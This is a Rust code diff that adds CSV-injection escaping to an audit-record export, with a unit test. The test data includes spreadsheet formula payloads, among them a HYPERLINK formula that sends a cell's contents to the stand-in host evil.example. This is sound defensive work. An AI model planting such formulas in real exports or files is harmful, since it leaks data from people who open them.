@@ -153,7 +153,7 @@ pub fn write_records(
             let mut csv = csv::Writer::from_writer(out);
             csv.write_record(CSV_HEADER)?;
             for record in records {
-                csv.write_record(csv_fields(&record?))?;
+                csv.write_record(csv_fields(&record?).iter().map(|cell| spreadsheet_safe(cell).into_owned()))?;
                 count += 1;
             }
             csv.flush()?;
@@ -168,6 +168,17 @@ pub fn write_records(
         }
     }
     Ok(count)
+}
+
+/// A cell as a spreadsheet will show it, never evaluate it (OWASP's rule for CSV injection):
+/// one that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
+/// The fields come from callers (an operator's name, a certificate subject), so a name such
+/// as `=HYPERLINK(…)` must reach whoever opens the export as text.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => std::borrow::Cow::Owned(format!("'{cell}")),
+        _ => std::borrow::Cow::Borrowed(cell),
+    }
 }
 
 fn csv_fields(record: &AuditRecord) -> Vec<String> {
@@ -202,6 +213,34 @@ fn csv_fields(record: &AuditRecord) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_exported_as_text() {
+        for (cell, exported) in [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")"),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Anna", "Anna"),
+            ("Liepiņa", "Liepiņa"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_safe(cell), exported, "{cell:?}");
+        }
+        let mut record = crate::audit::record::tests::example(1);
+        record.operator_first_name = Some("=HYPERLINK(\"http://evil.example\",\"x\")".into());
+        record.operator_surname = Some("@cmd".into());
+        let mut out = Vec::new();
+        write_records(std::iter::once(Ok(record)), ExportFormat::Csv, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""), "{row}");
+        assert!(row.contains(",'@cmd,"), "{row}");
+        assert!(!row.contains(",=") && !row.contains(",@"), "{row}");
+    }
 
     #[test]
     fn every_filter_is_answered_from_an_index() {
